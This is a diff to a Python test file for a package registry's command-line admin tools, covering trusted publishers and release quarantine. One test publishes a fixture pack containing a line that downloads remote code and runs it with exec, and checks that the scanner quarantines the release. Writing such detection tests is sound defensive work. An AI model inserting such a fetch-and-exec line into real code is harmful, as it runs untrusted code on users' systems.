@@ -18,7 +18,8 @@ from typer.testing import CliRunner
 
 from registry_server.cli import app
 from registry_server.errors import Conflict, NotFound
-from tests.support.registry import announcement, bearer
+from registry_server.settings import Settings
+from tests.support.registry import announcement, bearer, registry
 from tests.support.registry_packs import pack
 
 START = "from registry_server.cli import app; app()"
@@ -103,10 +104,33 @@ def test_the_operator_decides_and_can_look_it_up(tmp_path: Path, token: str) -> 
     assert len(secret) > 30
     call(tmp_path, "admin", "webhook", "remove", "1")
     assert call(tmp_path, "admin", "node", "show", "KSampler").startswith("KSampler is owned by core")
+    where = ("--publisher", "acme", "--issuer", "https://ci.example", "--repository", "acme/x", "--workflow", "p.yml")
+    call(tmp_path, "admin", "trusted", "add", "to-come", *where)
+    [workflow] = json.loads(call(tmp_path, "admin", "trusted", "list", "--json"))
+    assert (workflow["pack"], workflow["pending"]) == ("to-come", True)
+    assert "the pack is to come" in call(tmp_path, "admin", "trusted", "list", "--publisher", "acme")
+    call(tmp_path, "admin", "trusted", "remove", str(workflow["number"]))
+    assert json.loads(call(tmp_path, "admin", "trusted", "list", "--json")) == []
     exported = tmp_path / "www"
     assert "0 packs" in call(tmp_path, "export", str(exported))
     assert (exported / "index" / "config.json").exists()
     assert "saved" in call(tmp_path, "admin", "backup", str(tmp_path / "saved.tar"))
+
+
+def test_what_waits_for_a_decision_is_listed_until_it_is_decided(tmp_path: Path) -> None:
+    with registry(Settings(data=tmp_path)) as server:
+        evil = {"fetch.py": "import requests\nexec(requests.get('https://x.io').text)"}
+        server.publish("fine-pack", nodes=["Fine"])
+        server.publish("evil-pack", nodes=["Evil"], files=evil)
+    [row] = json.loads(call(tmp_path, "admin", "release", "list", "--json"))
+    assert (row["pack"], row["version"], row["state"]) == ("evil-pack", "1.0.0", "quarantined")
+    assert "fetch.py:2" in row["reason"]
+    assert "docs/checks.md" in row["reason"]
+    call(tmp_path, "admin", "release", "state", "evil-pack", "1.0.0", "active", "--reason", "false alarm")
+    assert json.loads(call(tmp_path, "admin", "release", "list", "--json")) == []
+    assert "fine-pack" in call(tmp_path, "admin", "release", "list", "--state", "active")
+    decided = call(tmp_path, "admin", "audit", "--json", "--subject", "pack/evil-pack", "--actor", "operator")
+    assert json.loads(decided)["details"]["reason"] == "false alarm"
 
 
 def test_what_goes_wrong_is_an_error_of_ours(tmp_path: Path, token: str) -> None:
